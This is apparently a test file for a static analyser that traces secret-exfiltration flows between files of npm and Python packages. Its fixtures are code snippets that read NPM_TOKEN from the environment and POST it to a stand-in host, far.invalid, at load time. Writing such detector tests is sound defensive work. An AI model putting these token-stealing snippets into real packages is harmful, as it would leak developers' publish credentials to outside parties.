"""Data that travels between files of one package."""

import pytest

from pratique.analysis.context import Context
from pratique.analysis.facts import Capability, FileFacts, Flow, Language, Taint
from pratique.analysis.gathering import Gathered, drop_waiting, gather
from pratique.analysis.joining import join
from pratique.analysis.languages import javascript, python
from pratique.analysis.leading import lead
from pratique.core.tree import File, Tree

NODE_SENDS = "exports.send = (x) => {\n  fetch('https://far.invalid/x', { method: 'POST', body: x });\n};\n"
NODE_TAKES = "exports.take = () => process.env.NPM_TOKEN;\n"
NODE_BOTH = "const { send } = require('./send');\nsend(require('./take').take());\n"
SENDS = "import requests\ndef send(x):\n    requests.post('https://far.invalid/x', data=x)\n"
TAKES = "import os\ndef take():\n    return os.environ['NPM_TOKEN']\n"
BOTH = "from .send import send\nfrom .take import take\nsend(take())\n"


def gathered(
    sources: dict[str, str], when: dict[str, Context] | None = None
) -> tuple[dict[str, FileFacts], Gathered]:
    tree = Tree(tuple(File(path, text.encode()) for path, text in sources.items()))
    facts = {
        path: python.extract(text.encode())
        if path.endswith(".py")
        else javascript.extract(text.encode(), Language.JAVASCRIPT)
        for path, text in sources.items()
    }
    contexts = {**dict.fromkeys(sources, Context.IMPORT), **(when or {})}
    led = lead(tree, facts, contexts)
    found = gather(tree, led, join(tree, led, contexts), contexts)
    return drop_waiting(join(tree, found.facts, contexts), found), found


def sent(facts: FileFacts) -> list[Flow]:
    return [flow for flow in facts.flows if flow.sink is Capability.NETWORK and Taint.SECRETS in flow.taints]


@pytest.mark.parametrize(
    ("sources", "where"),
    [
        ({"index.js": NODE_BOTH, "send.js": NODE_SENDS, "take.js": NODE_TAKES}, "send.js"),
        (
            {
                "index.js": f"require('./send').send(process.env.NPM_TOKEN);\n{'/**/' * 9}",
                "send.js": NODE_SENDS,
            },
            "send.js",
        ),
        (
            {
                "index.js": "const x = require('./take').take();\nfetch(`https://far.invalid/?${x}`);\n",
                "take.js": NODE_TAKES,
            },
            "index.js",
        ),
        ({"a/__init__.py": BOTH, "a/send.py": SENDS, "a/take.py": TAKES}, "a/__init__.py"),
    ],
)
def test_what_one_file_takes_and_another_sends_at_load_is_a_flow(sources: dict[str, str], where: str) -> None:
    facts, found = gathered(sources)
    assert [flow.at_load for flow in sent(facts[where])] == [True]
    assert set(found.flows) == {where}


def test_a_flow_between_files_is_told_where_it_ends() -> None:
    facts, _ = gathered({"index.js": NODE_BOTH, "send.js": NODE_SENDS, "take.js": NODE_TAKES})
    (flow,) = sent(facts["send.js"])
    assert (flow.line, flow.origin_line, flow.target) == (2, 2, "https://far.invalid/x")


@pytest.mark.parametrize(
    "index",
    [
        "const { send } = require('./send');\nexports.go = () => send(require('./take').take());\n",
        "require('./send');\nrequire('./take').take();\n",
        "require('./send').send('text');\nrequire('./take').take();\n",
    ],
)
def test_what_nobody_sends_at_load_is_none(index: str) -> None:
    facts, _ = gathered({"index.js": index, "send.js": NODE_SENDS, "take.js": NODE_TAKES})
    assert not [flow for file in facts.values() for flow in sent(file)]


def test_a_function_that_a_third_file_calls_at_load_sends_at_load() -> None:
    app = "const { send } = require('./send');\nexports.go = () => { send(require('./take').take()); };\n"
    sources = {
        "index.js": "require('./app').go();\n",
        "app.js": app,
        "send.js": NODE_SENDS,
        "take.js": NODE_TAKES,
    }
    facts, _ = gathered(sources)
    assert [flow.at_load for file in facts.values() for flow in sent(file)] == [True]


def test_files_that_run_late_or_are_large_are_not_read_together() -> None:
    sources = {"index.js": NODE_BOTH, "send.js": NODE_SENDS, "take.js": NODE_TAKES}
    assert not gathered(sources, dict.fromkeys(sources, Context.CALLED))[1].readings
    large = {**sources, "index.js": NODE_BOTH + f"// {'x' * 100_000}\n"}
    assert not gathered(large)[1].readings


def test_files_none_of_which_talks_to_the_network_at_load_are_not_read_together() -> None:
    quiet = "exports.send = (x) => { require('fs').writeFileSync('x', x); };\n"
    assert not gathered({"index.js": NODE_BOTH, "send.js": quiet, "take.js": NODE_TAKES})[1].readings


def test_an_earlier_file_is_not_told_what_a_later_one_makes_of_it() -> None:
    sources = {"index.js": NODE_BOTH, "send.js": NODE_SENDS, "take.js": NODE_TAKES}
    sends_early = f"{NODE_SENDS}exports.send('ready');\n"
    facts, _ = gathered({**sources, "send.js": sends_early}, {"send.js": Context.INSTALL})
    assert not sent(facts["send.js"])
    assert sent(facts["index.js"])


def test_a_reading_tells_the_file_and_line_of_each_fact_both_ways() -> None:
    _, found = gathered({"index.js": NODE_BOTH, "send.js": NODE_SENDS, "take.js": NODE_TAKES})
    places = [
        {reading.where(use.line) for use in reading.facts.uses if use.capability is Capability.NETWORK}
        for reading in found.readings
    ]
    assert places == [{("send.js", 2)}, {("send.js", 2)}]
    first, second = (
        [use.capability for use in sorted(reading.facts.uses, key=lambda use: use.line)]
        for reading in found.readings
    )
    assert sorted(first) == sorted(second)


def test_files_that_ask_for_each_other_end() -> None:
    sources = {
        "a.js": f"const b = require('./b');\n{NODE_SENDS}exports.send(b.take());\n",
        "b.js": f"const a = require('./a');\n{NODE_TAKES}a.send('x');\n",
    }
    assert set(gathered(sources)[0]) == set(sources)
